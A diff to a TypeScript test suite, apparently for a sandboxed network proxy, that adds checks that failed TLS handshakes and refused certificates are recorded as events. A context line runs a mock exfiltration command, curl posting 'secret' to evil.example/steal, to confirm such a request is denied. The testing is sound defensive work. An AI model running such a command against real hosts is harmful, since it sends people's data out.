@@ -94,6 +94,19 @@ test('programs trust the authority without any variable too', async () => {
   );
 });
 
+test('a client that trusts nobody is on record with what it did', async () => {
+  const connect =
+    'c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); c.wrap_socket(socket.create_connection(("api.example", 443)), server_hostname="api.example")';
+  const { events } = await watch(FIXTURES, `python3 -c 'import socket, ssl; ${connect}' 2>/dev/null; true`);
+  const reason = "the client gave up the TLS handshake: it may not trust the sandbox's authority";
+  expect(attempts(events)).toMatchObject([
+    { kind: 'tls', host: 'api.example', outcome: { kind: 'failed', reason } },
+  ]);
+  expect(new Set(events.flatMap((event) => (event.kind === 'dns' ? event.decision : [])))).toEqual(
+    new Set(['inside']),
+  );
+});
+
 test('a request that no fixture matches is denied and recorded in full', async () => {
   const { said, events } = await watch(FIXTURES, 'curl -sS https://evil.example/steal?x --data secret');
   expect(said).toBe('evil.example cannot be reached from here.');
@@ -173,9 +186,11 @@ test.each<[string, (authority: CertificateAuthority) => [Credentials, Certificat
   ['that has expired', (authority) => [expired(authority), authority], 'CERT_HAS_EXPIRED'],
 ])('a real certificate %s is refused, and nothing is sent', async (_what, made, code) => {
   const { seen, outside } = await publicHost(...made(new CertificateAuthority()));
-  const { said } = await watch(ALLOWED, 'curl -sS https://allowed.example/ --data secret', outside);
+  const { said, events } = await watch(ALLOWED, 'curl -sS https://allowed.example/ --data secret', outside);
   expect(said).toBe(`allowed.example cannot be trusted: the TLS connection failed with ${code}.`);
   expect(seen).toEqual([]);
+  const outcome = { kind: 'failed', reason: `the TLS connection failed with ${code}` };
+  expect(attempts(events)).toMatchObject([{ kind: 'http', decision: 'forwarded', outcome }]);
 });
 
 function expired(authority: CertificateAuthority): Credentials {
